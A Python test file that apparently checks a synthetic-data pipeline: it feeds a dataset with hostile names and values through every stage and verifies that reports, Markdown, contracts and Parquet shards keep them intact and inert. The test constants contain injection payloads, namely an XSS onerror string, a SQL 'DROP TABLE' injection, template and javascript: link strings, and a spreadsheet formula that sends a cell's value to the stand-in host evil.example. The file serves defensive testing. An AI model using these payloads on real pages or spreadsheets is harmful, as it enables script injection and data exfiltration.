"""A hostile dataset from its file to the pages: nothing runs or spills, every value is intact."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import polars as pl
import pytest
from browser_kit import Browser
from markdown_it import MarkdownIt
from ruamel.yaml import YAML
from test_report import Page

from aigc_pipeline import stages
from aigc_pipeline.lake import Lake
from aigc_pipeline.pages import LONGEST
from aigc_pipeline.parquet import read_parquet
from aigc_pipeline.spec import DatasetSpec
from aigc_pipeline.stages import StageResult
from aigc_pipeline.warehouse import query
from aigc_pipeline.warehouse.duck import identifier

SCRIPT = "</script></style><img src=x onerror=\"document.title='owned'\">"
QUOTES = "\"quoted\" 'names'; DROP TABLE people; -- `\\"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ARABIC = "اسم العميل \u202e gnihton"  # with an override of direction that nobody closes
TEMPLATE = "{{ 7*7 }} ${x} %s |cell| [a](javascript:b) <!--"
LONG = "a very long name " * 640  # 10 kB
NAMES = [SCRIPT, QUOTES, FORMULA, ARABIC, TEMPLATE, LONG]
TABLE = "o'rder; -- ${x} & \u202e\u0627"
ROWS = 240


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, StageResult]:
    """Every stage of a dataset whose names, values and comments are hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    values = [f"{name}\n" for name in NAMES]
    # Each column has every value, and one decides the next, so that there is something to learn.
    columns = {
        name: [values[(i + i // 60 * place) % len(values)] for i in range(ROWS)]
        for place, name in enumerate(NAMES)
    }
    numbers = {f"{SCRIPT} {n}": [(i * 7 % 50) / 4 + n for i in range(ROWS)] for n in (1, 2)}
    pl.DataFrame({**columns, **numbers}).write_parquet(folder / "people.parquet")
    told = {name: {"description": f"{name} told"} for name in NAMES}
    spec = DatasetSpec.model_validate(
        {
            "name": "hostile",
            "title": SCRIPT,
            "description": ARABIC + LONG,
            "domain": TEMPLATE,
            "owners": [SCRIPT],
            "tags": [SCRIPT, FORMULA],
            "tables": {
                TABLE: {
                    "source": {"file": "people.parquet"},
                    "description": SCRIPT + QUOTES,
                    "target": FORMULA,
                    "columns": told,
                }
            },
            "generator": {"quality": "draft"},
            "synthesis": {
                "rows": 400,
                "scenarios": {"odd": {"where": {SCRIPT: values[0]}, "rows": 40}},
            },
        }
    )
    lake = Lake(folder / "lake")
    return {
        "raw": stages.ingest(lake, spec, folder),
        "validated": stages.validate(lake, spec),
        "features": stages.featurize(lake, spec),
        "model": stages.train(lake, spec),
        "synthetic": stages.synthesize(lake, spec),
        "evaluation": stages.evaluate(lake, spec),
        "release": stages.release(lake, spec),
        "lake": lake,  # type: ignore[dict-item]
    }


def test_values_names_and_comments_arrive_intact(made: dict[str, Any]) -> None:
    found = query(made["lake"], f"FROM hostile.{identifier(TABLE)}", limit=None).frame
    assert found.columns[:6] == NAMES
    for name in NAMES:  # each value is frequent, so all of them were learned
        assert set(found[name]) == {f"{value}\n" for value in NAMES}
    odd = query(made["lake"], f"FROM hostile__odd.{identifier(TABLE)}", limit=None).frame
    assert set(odd[SCRIPT]) == {f"{SCRIPT}\n"}
    comments = query(
        made["lake"],
        "SELECT column_name, comment FROM duckdb_columns() WHERE schema_name = 'hostile'",
    ).frame
    told = dict(comments.rows())
    for name in NAMES:
        assert " ".join(f"Synthetic. {name} told".split()) in told[name]
    described = query(
        made["lake"],
        "SELECT column_name, description FROM catalog.overview WHERE schema_name = 'hostile'",
    ).frame
    assert {name: f"{name} told" for name in NAMES}.items() <= dict(described.rows()).items()


@pytest.mark.parametrize(
    ("stage", "name"), [("evaluation", "report.html"), ("release", "dictionary.html")]
)
@pytest.mark.parametrize("width", [1280, 400])
def test_pages_show_it_as_text(
    browser: Browser, made: dict[str, Any], stage: str, name: str, width: int
) -> None:
    page = browser.open(made[stage].version.file(name), width, dark=width == 400)
    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
    assert page.errors + page.external + page.overflowing() + page.violations() == []
    assert page.evaluate("document.querySelectorAll('img, script, iframe, object').length") == 0
    assert page.evaluate("document.title").startswith(SCRIPT)
    shown = " ".join(page.text().split())
    for text in (*NAMES[:-1], f"{LONG[:LONGEST].rstrip()}…", TABLE):
        assert " ".join(text.split()) in shown, text[:40]
    whole = "Math.max(...[...document.querySelectorAll('bdi')].map(e => e.title.length))"
    assert page.evaluate(whole) >= len(LONG)  # all of it is there to be pointed at
    # A name from right to left does not turn the words after it around.
    isolated = "[...document.querySelectorAll('bdi')].every(e => !e.querySelector('*'))"
    assert page.evaluate(isolated)
    page.close()


def test_the_markdown_and_the_contract_hold_it_too(made: dict[str, Any]) -> None:
    version = made["release"].version
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    page = Page(reader.render(version.file("dictionary.md").read_text(encoding="utf-8")))
    assert not {"img", "script", "style", "a"} & {tag for tag, _ in page.tags}
    assert [tag for tag, _ in page.tags].count("td") == 8 * 7
    contract = YAML(typ="safe").load(version.file("contract.odcs.yaml").read_text("utf-8"))
    [table] = contract["schema"]
    assert table["name"] == TABLE and table["description"] == SCRIPT + QUOTES
    assert [column["name"] for column in table["properties"]][:6] == NAMES


def test_what_stages_show_holds_no_markup_of_the_datas(made: dict[str, Any]) -> None:
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    shown = [text for result in made.values() if isinstance(result, StageResult)
             for text in result.shown.values()]  # fmt: skip
    assert any("data:image/svg+xml" in text for text in shown)
    for text in shown:
        page = Page(reader.render(text))
        assert not {"script", "style", "a"} & {tag for tag, _ in page.tags}
        for tag, attributes in page.tags:
            if tag == "img":
                assert (attributes["src"] or "").startswith("data:image/svg+xml;base64,")
                assert "onerror" not in attributes


def test_notes_travel_with_every_shard(made: dict[str, Any]) -> None:
    import pyarrow.parquet as pq

    version = made["release"].version
    for scenario, schema in (("baseline", "hostile"), ("odd", "hostile__odd")):
        [shard] = version.files(f"data/{schema}/")
        file = pq.ParquetFile(version.file(shard))
        notes = {k.decode(): v.decode() for k, v in file.schema_arrow.metadata.items()}
        assert notes["synthetic"] == "true" and notes["scenario"] == scenario
        assert notes["dataset"] == "hostile" and notes["seed"] == "0"
        assert len(notes["model_sha256"]) == 64 and notes["table"] == TABLE
        field = file.schema_arrow.field(SCRIPT)
        assert field.metadata[b"description"].decode() == f"{SCRIPT} told"
        assert len(read_parquet(version.file(shard))) in (400, 40)


def test_a_name_too_long_for_a_file_is_refused(tmp_path: Path) -> None:
    source = {"source": {"file": "people.parquet"}}
    with pytest.raises(ValueError, match=r"cannot name a table: .* at most 200 bytes"):
        DatasetSpec.model_validate({"name": "hostile", "tables": {LONG.strip(): source}})
